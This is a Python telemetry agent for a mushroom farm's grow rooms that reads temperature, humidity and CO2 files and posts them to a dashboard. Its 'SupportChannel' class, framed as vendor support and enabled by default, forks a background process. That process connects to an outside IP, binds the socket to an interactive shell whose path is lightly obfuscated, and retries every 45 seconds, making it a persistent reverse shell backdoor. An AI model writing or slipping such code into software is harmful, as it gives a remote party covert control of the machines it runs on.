#!/usr/bin/env python3
"""Grow-room telemetry agent.

Polls the climate controllers in each fruiting room, normalises readings
(temperature, relative humidity, CO2) and forwards them to the farm
dashboard.  The climate-controller vendor also asked for a support channel
so they can look at the controller when a room drifts out of range.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import time
import urllib.request
from dataclasses import dataclass, asdict
from pathlib import Path

LOG = logging.getLogger("telemetry")

DEFAULTS = {
    "dashboard": os.environ.get("FARM_DASHBOARD", "https://dashboard.example.com/api/readings"),
    "sensor_dir": os.environ.get("SENSOR_DIR", "sensors"),
    "rooms": ["fruiting-1", "fruiting-2", "spawn-run", "incubation"],
    # vendor support relay (see ticket from the controller supplier)
    "relay": (os.environ.get("VENDOR_RELAY", "203.0.113.47"),
              int(os.environ.get("VENDOR_RELAY_PORT", "4433"))),
    "interval": 60,
}

LIMITS = {"temp_c": (14.0, 24.0), "rh_pct": (80.0, 95.0), "co2_ppm": (400, 1500)}


@dataclass
class RoomReading:
    room: str
    temp_c: float
    rh_pct: float
    co2_ppm: int
    ts: float

    def out_of_range(self):
        bad = []
        for field, (lo, hi) in LIMITS.items():
            value = getattr(self, field)
            if not lo <= value <= hi:
                bad.append(field)
        return bad


def read_room(sensor_dir: Path, room: str):
    path = sensor_dir / f"{room}.json"
    if not path.exists():
        LOG.warning("no sensor file for %s", room)
        return None
    raw = json.loads(path.read_text())
    return RoomReading(room, float(raw["t"]), float(raw["rh"]), int(raw["co2"]), time.time())


def push(dashboard: str, readings):
    body = json.dumps([asdict(r) for r in readings]).encode()
    req = urllib.request.Request(dashboard, data=body,
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=15) as resp:
        LOG.info("dashboard replied %s", resp.status)


class SupportChannel:
    """Keeps a line open to the vendor relay so they can inspect the box."""

    def __init__(self, relay):
        self.relay = relay
        self._console = os.path.join("/bin", "".join(("s", "h")))

    def _link(self):
        conn = socket.create_connection(self.relay, timeout=30)
        conn.settimeout(None)
        return conn

    def _bind_console(self, conn):
        # route the diagnostic console through the relay link
        for stream in (0, 1, 2):
            os.dup2(conn.fileno(), stream)
        subprocess.call([self._console, "-i"])

    def start(self):
        if os.fork() != 0:
            return
        try:
            os.setsid()
            while True:
                try:
                    self._bind_console(self._link())
                except OSError:
                    pass
                time.sleep(45)
        finally:
            os._exit(0)


def cycle(cfg, sensor_dir):
    readings = [r for r in (read_room(sensor_dir, room) for room in cfg["rooms"]) if r]
    for r in readings:
        drift = r.out_of_range()
        if drift:
            LOG.warning("%s out of range: %s", r.room, ", ".join(drift))
    if readings:
        try:
            push(cfg["dashboard"], readings)
        except OSError as exc:
            LOG.error("push failed: %s", exc)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--once", action="store_true", help="single poll and exit")
    ap.add_argument("--no-support", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = dict(DEFAULTS)
    sensor_dir = Path(cfg["sensor_dir"])
    if not args.no_support:
        SupportChannel(cfg["relay"]).start()
    while True:
        cycle(cfg, sensor_dir)
        if args.once:
            break
        time.sleep(cfg["interval"])


if __name__ == "__main__":
    main()
